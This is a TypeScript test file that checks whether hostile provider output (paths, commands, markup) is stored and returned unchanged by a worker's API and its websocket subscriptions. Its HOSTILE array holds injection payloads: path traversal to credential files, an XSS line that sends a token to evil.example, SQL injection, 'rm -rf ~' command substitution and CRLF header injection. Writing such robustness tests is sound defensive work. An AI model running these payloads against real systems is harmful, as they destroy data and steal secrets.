/**
 * Provider output is data: hostile strings a runner reports (paths that climb, markup, NUL, lone
 * surrogates, text that looks like JSON or a Loom frame, a long text) are stored and served back
 * exactly as sent, over HTTP and to a subscriber; the worker never interprets them.
 */
import { describe, expect, it } from 'vitest'
import { api, connect, dispatch, projection } from './helpers.ts'
import { runnerThread } from './runner-helpers.ts'

const HOSTILE = [
  '../../etc/passwd',
  '/etc/shadow',
  '..\\..\\Windows\\System32\\config\\SAM',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`//evil.example/`+localStorage.token)">',
  'NUL\u0000inside',
  'lone high \uD800 and lone low \uDFFF and reversed \uDC00\uD800',
  '{"subscription":"thread:other","item":{"kind":"event"}}',
  '{"type":"hello","protocolVersion":1,"epoch":999}',
  "'; DROP TABLE events; --",
  '$(rm -rf ~) `reboot` ${process.env.LOOM_JWT_SECRET}',
  '\u202Eevil.exe\u202C right-to-left override',
  '\r\n\r\nHTTP/1.1 200 OK\r\nX-Injected: 1',
]
const LONG = `${'A'.repeat(150_000)}<script>${'\uD83D\uDE00'.repeat(10_000)}`
const TEXT = [...HOSTILE, LONG].join('\n')

describe('hostile provider output', () => {
  it('should keep file paths, commands and text from a provider intact in the projection, the events and a subscription', async () => {
    const { tok, threadId, link, runner } = await runnerThread()
    try {
      expect((await dispatch(tok, { type: 'message.dispatch', threadId, text: 'go' })).status).toBe(200)
      const start = await link.effect('turn.start')
      await link.startTurn(start)
      const { runId } = start.body
      const item = (nativeItemId: string, content: Record<string, unknown>) => ({ type: 'item.updated' as const, runId, nativeItemId, parentNativeItemId: null, status: 'completed' as const, content })
      const command = { type: 'command_execution', command: HOSTILE.join(' && '), cwd: '../../etc', output: TEXT, exitCode: 0 }
      const fileChange = {
        type: 'file_change',
        changes: HOSTILE.slice(0, 8).map((path, i) => ({ path, kind: 'update', additions: i, deletions: 0, diff: `--- a/${path}\n+++ b/${path}\n+${HOSTILE[(i + 3) % HOSTILE.length]}` })),
      }
      const generic = { type: 'generic', nativeType: '<b>native</b>\u0000', summary: TEXT }
      const answer = await link.batch([item('hostile-text', { type: 'assistant_message', text: TEXT }), item('hostile-command', command), item('hostile-files', fileChange), item('hostile-generic', generic)] as never)
      expect(answer.type).toBe('ack')

      const contents = (items: any[]) => items.filter((i) => ['assistant_message', 'command_execution', 'file_change', 'generic'].includes(i.content.type)).map((i) => i.content)
      const expectIntact = (found: any[]) => {
        const byType = Object.fromEntries(found.map((c) => [c.type, c]))
        expect(byType.assistant_message.text).toBe(TEXT)
        expect(byType.command_execution).toEqual(command)
        expect(byType.file_change).toEqual(fileChange)
        expect(byType.generic).toEqual(generic)
      }
      expectIntact(contents((await projection(tok, threadId)).turnItems))

      const events = (await api(`/v1/threads/${threadId}/events?after=0`, { token: tok })).body.events
      const fromEvents = events.filter((e: any) => e.event.type === 'turn-item.updated').map((e: any) => e.event.payload)
      expectIntact(contents(fromEvents))

      const subscriber = await connect(`/v1/ws?threadId=${threadId}`, tok)
      try {
        await subscriber.request(1, 'subscribeThread', { threadId })
        const snapshot = await subscriber.until((frames) => frames.find((f) => f.item?.kind === 'snapshot'))
        expectIntact(contents(snapshot.item.projection.turnItems))
      } finally {
        subscriber.close()
      }
    } finally {
      runner.close()
    }
  })
})
